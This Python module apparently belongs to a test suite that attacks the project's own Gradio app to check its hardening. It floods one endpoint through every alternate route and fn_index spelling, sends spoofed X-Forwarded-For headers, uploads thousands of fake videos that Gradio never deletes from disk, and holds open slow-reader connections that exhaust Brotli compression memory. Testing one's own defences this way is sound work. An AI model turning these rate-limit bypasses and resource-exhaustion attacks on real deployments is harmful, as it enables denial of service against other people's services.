"""Attacks through the routes themselves: one endpoint's rate tried through every route and spelling that reaches
it, a route the page never uses that writes a file per call, every such route in turn, and Gradio's compression
held open by slow readers."""

from __future__ import annotations

import collections
import contextlib
import json
import socket
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import gradio
import httpx

from attacks.clients import JSON, Answer, Api
from attacks.measure import disk, during
from attacks.payloads import MB, multipart, multipart_headers
from attacks.target import Context
from digitnet.lab.serving import pad_value
from digitnet.routes import CLOSED, TABLE

FEEDBACK_ATTACKER = "203.0.113.91"
READER = "203.0.113.92"
PLOTLY = next((Path(gradio.__file__).parent / "templates" / "frontend" / "assets").glob("PlotlyPlot-*.js"), None)


def _dependency(api: Api, named) -> int:
    """The fn_index of the page's first event whose api_name `named(api_name)` accepts (from /config)."""
    config = api.http.get("/config").json()
    return next(d["id"] for d in config["dependencies"] if named(d.get("api_name") or ""))


def _outcome(lines) -> tuple[str, object]:
    """An event's end from its SSE lines (the /call form or the queue's): ("complete" or "error", its data)."""
    event = None
    for line in lines:
        if line.startswith("event:"):
            event = line.split(":", 1)[1].strip()
        elif line.startswith("data:"):
            data = json.loads(line[5:]) if line[5:].strip() else None
            if event in ("complete", "error"):
                return event, data
            if isinstance(data, dict) and data.get("msg") == "process_completed":
                return ("complete" if data.get("success") else "error"), (data.get("output") or {}).get("data")
    return "unclear", None


def _submit(api: Api, how: str, value: dict, index: int, page_index: int, names: list[str]) -> str:
    """One submission through route `how`; what came of it: 'saved', 'ran' (answered, nothing kept), '429', or
    the status and message."""
    session = uuid.uuid4().hex
    said = "4"
    if how.startswith("call"):
        path = "/gradio_api/call/v2/feedback" if "v2" in how else "/gradio_api/call/feedback"
        path += "/" if how.endswith("/") else ""
        body = dict(zip(names, [value, "cnn", said], strict=True)) if "v2" in how else {"data": [value, "cnn", said]}
        r = api.http.post(path, json=body)
        if r.status_code != 200:
            return "429" if r.status_code == 429 else f"HTTP {r.status_code} {r.text[:60]}"
        results = path.rstrip("/") + "/" + r.json()["event_id"]
        with api.http.stream("GET", results) as stream:
            event, data = _outcome(stream.iter_lines())
    else:
        fn_index = {"join 14": index, "join '14'": str(index), "join 14.0": float(index), "page": page_index}[how]
        data = [value, "cnn", None] if how == "page" else [value, "cnn", said]
        body = {"data": data, "fn_index": fn_index, "session_hash": session, "event_data": None, "trigger_id": None}
        r = api.http.post("/gradio_api/queue/join", content=json.dumps(body), headers=JSON)
        if r.status_code != 200:
            return "429" if r.status_code == 429 else f"HTTP {r.status_code} {r.text[:60]}"
        with api.http.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as stream:
            event, data = _outcome(stream.iter_lines())
    if event != "complete":
        return f"{event}: {str(data)[:60]}"
    out = data[0] if isinstance(data, list) and data else data
    return "saved" if isinstance(out, dict) and out.get("saved") else "ran"


WAYS = ("call", "call/", "call v2", "call v2/", "join 14", "join '14'", "join 14.0", "page")


def feedback_every_route(ctx: Context, scale: float) -> Answer:
    """/feedback from one address, 8 at once for 58 s, each submission through the next of its routes and
    spellings: /call/feedback (with and without the slash), /call/v2/feedback (both), queue/join with fn_index 14
    as an integer, a string and a float (Gradio reads each as 14), and the page's own buttons (queue/join with
    their fn_index). One rate for the endpoint: at most the client's 10 a minute run, whichever way."""
    seconds = max(5.0, 58 * scale)
    api = Api(ctx.server, address=FEEDBACK_ATTACKER, timeout=60)
    index = _dependency(api, lambda name: name == "feedback")
    page_index = _dependency(api, lambda name: name.startswith("from_page"))
    info = api.http.get("/gradio_api/info").json()["named_endpoints"]["/feedback"]["parameters"]
    names = [p["parameter_name"] for p in info]
    value = pad_value()

    def worker(w: int) -> collections.Counter:
        got: collections.Counter = collections.Counter()
        i, end = w, time.monotonic() + seconds
        while time.monotonic() < end:
            how = WAYS[i % len(WAYS)]
            try:
                outcome = _submit(api, how, value, index, page_index, names)
            except (httpx.HTTPError, ValueError, KeyError) as e:
                outcome = type(e).__name__
            got[f"{how}: {outcome}"] += 1
            i += 8
        return got

    def attack() -> Answer:
        with ThreadPoolExecutor(8) as pool:
            got = sum(pool.map(worker, range(8)), collections.Counter())
        ran = {k: n for k, n in got.items() if k.endswith((": saved", ": ran"))}
        total = sum(ran.values())
        refused = sum(n for k, n in got.items() if k.endswith(": 429"))
        text = (f"{seconds:.0f} s, 8 at once: {total} ran ({dict(sorted(ran.items()))}), {refused} refused (HTTP 429), "
                f"other {sum(got.values()) - total - refused}")  # fmt: skip
        figures = {"ran": total, "refused_429": refused, "saved": sum(n for k, n in got.items() if "saved" in k),
                   "seconds": seconds, "ways_that_ran": sorted({k.split(":")[0] for k in ran})}  # fmt: skip
        return Answer("refused" if refused else "answer", text, figures=figures)

    with api:
        return during(ctx, attack)


def process_recording(ctx: Context, scale: float) -> Answer:
    """2,000 calls of Gradio's screen-recording route, a 250 KB video each, 4 at once: Gradio wrote each to a file
    it never deletes, outside its cache. The disk under the server's cache and temp folders, a second later."""
    count, folders = max(20, int(2000 * scale)), (ctx.cache_folder, ctx.folder / "tmp")
    before = [disk(f) for f in folders]
    api = Api(ctx.server, address="203.0.113.93")

    def one(i: int) -> str:
        length, body = multipart([("video", "screen.mp4", 250 * 1024)])
        try:
            r = api.http.post(
                "/gradio_api/process_recording", content=b"".join(body), headers=multipart_headers(length)
            )
        except httpx.HTTPError as e:
            return type(e).__name__
        return f"HTTP {r.status_code}"

    def attack() -> Answer:
        with ThreadPoolExecutor(4) as pool:
            codes = collections.Counter(pool.map(one, range(count)))
        time.sleep(1)
        after = [disk(f) for f in folders]
        files = sum(a["files"] - b["files"] for a, b in zip(after, before, strict=True))
        grown = sum(a["bytes"] - b["bytes"] for a, b in zip(after, before, strict=True)) / MB
        text = f"{count} calls of 250 KB: {dict(codes)}; {files} files, {grown:.1f} MB left on disk"
        kind = "answer" if codes.get("HTTP 200") else "refused"
        return Answer(kind, text, figures={"files": files, "disk_mb": round(grown, 1), **codes})

    with api:
        return during(ctx, attack)


def closed_routes(ctx: Context, scale: float) -> Answer:
    """Every route the page and gradio_client never use (digitnet/routes.py: CLOSED), with GET and with a POST of
    an empty JSON object: each must answer 404 before it reads anything (before: /gradio_api/dev/reload held its
    stream open, sending nothing for 15 s)."""
    codes: collections.Counter = collections.Counter()
    not_404 = []
    api = Api(ctx.server, address="203.0.113.94")
    with api:
        for path, rule in TABLE.items():
            if rule.kind != CLOSED:
                continue
            concrete = path.replace("{", "").replace("}", "").replace(":path", "")
            for method in ("GET", "POST"):
                try:  # the answer's status only: some of these routes stream for as long as the client reads
                    with api.http.stream(method, concrete, json={} if method == "POST" else None, timeout=10) as r:
                        code = f"HTTP {r.status_code}"
                except httpx.TimeoutException:
                    code = "no answer in 10 s"
                codes[code] += 1
                if code != "HTTP 404":
                    not_404.append(f"{method} {path}: {code}")
    text = f"{sum(codes.values())} requests to routes the page never uses: {dict(codes)}"
    text += f"; not 404: {not_404[:6]}" if not_404 else ""
    return Answer("refused" if codes["HTTP 404"] else "answer", text, figures={"not_404": len(not_404)})


def slow_readers(encoding: str):
    """128 readers of Gradio's 4.6 MB Plotly bundle from one address at once, each asking for `encoding` (br:
    Gradio's own Brotli, outside the guard, made a compressor with a 4 MB window for each), reading the first 4 KB
    and then nothing for 30 s; the other visitor asks as they arrive."""

    def attack(ctx: Context, scale: float) -> Answer:
        count, hold = max(16, int(128 * scale)), max(3.0, 30 * scale)
        path = f"/assets/{PLOTLY.name}"
        request = (f"GET {path} HTTP/1.1\r\nHost: app\r\nAccept-Encoding: {encoding}\r\n"
                   f"X-Forwarded-For: {READER}\r\n\r\n").encode()  # fmt: skip
        encodings: collections.Counter = collections.Counter()

        def read() -> Answer:
            held = []
            try:
                for _ in range(count):
                    s = socket.socket()
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                    s.settimeout(30)
                    s.connect(("127.0.0.1", ctx.server.port))
                    s.sendall(request)
                    held.append(s)
                for s in held:
                    try:
                        head = s.recv(4096).split(b"\r\n\r\n", 1)[0].decode("latin-1").lower()
                    except OSError as e:
                        encodings[type(e).__name__] += 1
                        continue
                    found = [
                        h.split(":", 1)[1].strip() for h in head.split("\r\n") if h.startswith("content-encoding:")
                    ]
                    encodings[
                        found[0] if found else ("identity" if head.startswith("http/1.1 200") else head[:15])
                    ] += 1
                time.sleep(hold)
            finally:
                for s in held:
                    with contextlib.suppress(OSError):
                        s.close()
            text = f"{count} readers asking for {encoding}, held {hold:.0f} s: {dict(encodings)}"
            return Answer("answer", text, figures=dict(encodings))

        return during(ctx, read)

    attack.__doc__ = slow_readers.__doc__.replace("`encoding`", encoding)
    return attack


def _encoding(head: str) -> str:
    """A response's content encoding from its head (lowercase): 'identity' for a 200 without one, else its status."""
    for line in head.split("\r\n"):
        if line.startswith("content-encoding:"):
            return line.split(":", 1)[1].strip()
    return "identity" if head.startswith("http/1.1 200") else head[:15]
